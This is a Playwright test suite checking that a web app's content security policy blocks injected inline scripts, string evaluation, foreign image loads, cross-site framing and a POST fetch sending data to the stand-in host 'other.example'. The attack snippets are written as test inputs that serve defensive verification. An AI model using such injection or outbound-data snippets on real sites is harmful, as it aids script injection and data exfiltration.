"""What the policy of the pages lets a browser do, and what it does not."""

import pytest
from playwright.sync_api import expect

from cstoviz.ui.navigation import ORDER, PATHS

pytestmark = pytest.mark.browser
NOTED = """window.refused = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.refused.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`));"""
INLINE = """() => {
  const script = document.createElement("script");
  script.textContent = "window.ran = true";
  document.body.append(script);
}"""
FOREIGN = """() => new Promise((done) => {
  document.addEventListener("securitypolicyviolation", (event) => done(event.blockedURI));
  new Image().src = "https://other.example/picture.png";
})"""
EVALUATED = """() => new Promise((done) => {
  document.addEventListener("securitypolicyviolation", (event) => done(event.blockedURI));
  setTimeout("window.ran = true", 0);
})"""
SHOUTED = """() => new Promise((done) => {
  document.addEventListener("securitypolicyviolation", (event) => done(event.blockedURI));
  fetch("https://other.example/", { method: "POST", body: "said" }).catch(() => null);
})"""


@pytest.fixture
def strict(watched):
    """Return a page that remembers what its policy refused."""
    watched.page.add_init_script(NOTED)
    return watched


def refused(page):
    return [each for frame in page.frames for each in frame.evaluate("window.refused")]


@pytest.mark.parametrize("name", ORDER)
def test_every_page_keeps_to_its_policy(strict, name):
    page = strict.open(PATHS[name])
    assert refused(page) == []
    strict.assert_quiet()


def test_the_map_is_drawn_with_its_signs(strict):
    page = strict.open("map")
    expect(page.locator("canvas").first).to_be_visible()
    strict.rest()
    assert refused(page) == []
    strict.assert_quiet()


def test_the_list_behind_a_number_and_an_event_with_its_sources(strict):
    page = strict.open("participation?behind=participation-by-state~absent~ARM&lang=en")
    page.get_by_role("dialog").locator("tbody tr a").first.click()
    expect(page.get_by_role("dialog").get_by_role("heading", name="Sources")).to_be_visible()
    assert refused(page) == []
    strict.assert_quiet()


@pytest.mark.parametrize("kind", ["PNG", "SVG"])
def test_a_chart_is_saved_as_an_image(strict, kind):
    page = strict.open("timeline")
    page.get_by_role("button", name="Download").first.click()
    with page.expect_download() as saved:
        page.get_by_role("button", name=f"Chart as {kind}").first.click()
    assert saved.value.suggested_filename.endswith(f".{kind.lower()}")
    assert refused(page) == []


def test_slides_are_shown_alone_and_within_their_page(strict):
    page = strict.open("briefing")
    assert len(page.frames) == 2
    page.goto(f"{strict.address}/present?slides=timeline")
    expect(page.locator("section.slide").first).to_be_visible()
    assert refused(page) == []
    strict.assert_quiet()


@pytest.mark.parametrize("path", ["", "present"])
def test_a_script_in_a_text_does_not_run(strict, path):
    page = strict.page
    page.goto(f"{strict.address}/{path}")
    page.evaluate(INLINE)
    assert page.evaluate("window.ran") is None
    assert refused(page)[0].startswith("script-src-elem inline")


@pytest.mark.parametrize("attempt", [FOREIGN, SHOUTED])
def test_nothing_is_fetched_from_or_told_to_another_host(strict, attempt):
    page = strict.open()
    assert page.evaluate(attempt).startswith("https://other.example")


@pytest.mark.parametrize("path", ["", "map", "present"])
def test_no_words_become_a_script(strict, path):
    page = strict.page
    page.goto(f"{strict.address}/{path}")
    assert page.evaluate(EVALUATED) == "eval"
    assert page.evaluate("window.ran") is None


@pytest.mark.parametrize(("path", "framed"), [("", False), ("present", False), ("embed/x", True)])
def test_another_site_frames_embedded_views_and_no_pages(watched, site, tmp_path, path, framed):
    (tmp_path / "page.html").write_text(f'<iframe src="{watched.address}/{path}"></iframe>')
    watched.page.goto(f"{site}/page.html")
    watched.page.wait_for_load_state("networkidle")
    assert watched.page.frames[1].url.startswith(watched.address) == framed
